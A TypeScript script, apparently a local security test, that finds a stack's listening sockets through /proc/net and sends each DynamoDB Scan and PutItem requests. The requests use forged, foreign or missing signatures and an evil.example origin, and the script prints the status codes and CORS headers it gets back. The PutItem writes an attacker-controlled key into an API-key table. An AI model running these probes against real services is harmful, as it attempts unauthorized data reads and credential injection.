/**
 * Attacks a stack as another user of the machine, in a process of that user: finds the listening sockets in /proc/net,
 * sends each a Scan and a PutItem with several signatures, and prints the responses as JSON.
 *
 *     node attack.ts '{"inodes":["123"],"enquiries":"TABLE","apiKeys":"TABLE"}'
 */
import { readFile } from 'node:fs/promises';
import aws4 from 'aws4';
import * as z from 'zod';

const { inodes, enquiries, apiKeys } = z
  .object({ inodes: z.array(z.string()), enquiries: z.string(), apiKeys: z.string() })
  .parse(JSON.parse(process.argv[2] ?? ''));

/** Returns the URLs of the stack's listening sockets. Sockets of other stacks on the machine are not attacked. */
const listening = async (): Promise<string[]> => {
  // The file tcp6 does not exist on a machine without IPv6.
  const tables = ['tcp', 'tcp6'].map((name) => readFile(`/proc/net/${name}`, 'utf8').catch(() => ''));
  const rows = (await Promise.all(tables)).join('\n').split('\n');
  return rows.flatMap((row) => {
    const [, local = '', , state, , , , , , inode = ''] = row.trim().split(/\s+/);
    if (state !== '0A' || !inodes.includes(inode)) return [];
    const [address = '', port = ''] = local.split(':');
    return [`http://${hostOf(address)}:${Number.parseInt(port, 16)}`];
  });
};

/** Converts an address in /proc/net, whose 32-bit words have the machine's byte order, to the host of a URL. */
const hostOf = (address: string): string => {
  const bytes = Buffer.from(address, 'hex').swap32();
  if (bytes.length === 4) return bytes.join('.');
  return `[${bytes.toString('hex').match(/.{4}/g)?.join(':')}]`;
};

const scope = '20260101/ap-southeast-2/dynamodb/aws4_request';
const zero = `AWS4-HMAC-SHA256 Credential=0/${scope}, SignedHeaders=host, Signature=0`;
const foreign = { accessKeyId: 'FOREIGN', secretAccessKey: 'foreign' };

const send = async (endpoint: string, operation: string, body: string, kind: string) => {
  const request = {
    host: new URL(endpoint).host,
    method: 'POST',
    path: '/',
    service: 'dynamodb',
    region: 'ap-southeast-2',
    body,
    headers: {
      'x-amz-target': `DynamoDB_20120810.${operation}`,
      'content-type': 'application/x-amz-json-1.0',
      ...(kind === 'zero' && { authorization: zero }),
      ...(kind === 'page' && { origin: 'https://evil.example' }),
    },
  };
  if (kind === 'foreign') aws4.sign(request, foreign);
  const headers = new Headers();
  for (const [name, value] of Object.entries(request.headers)) headers.set(name, String(value));
  const signal = AbortSignal.timeout(10_000);
  const response = await fetch(endpoint, { method: 'POST', headers, body, signal });
  return {
    endpoint,
    operation,
    kind,
    status: response.status,
    pages: response.headers.get('access-control-allow-origin'),
  };
};

const item = { keyId: { S: 'attacker' } };
const results = [];
for (const endpoint of await listening())
  for (const kind of ['zero', 'foreign', 'none', 'page'])
    for (const [operation, body] of [
      ['Scan', { TableName: enquiries }],
      ['PutItem', { TableName: apiKeys, Item: item }],
    ] as const)
      results.push(await send(endpoint, operation, JSON.stringify(body), kind));
console.log(JSON.stringify({ uid: process.getuid?.(), results }));
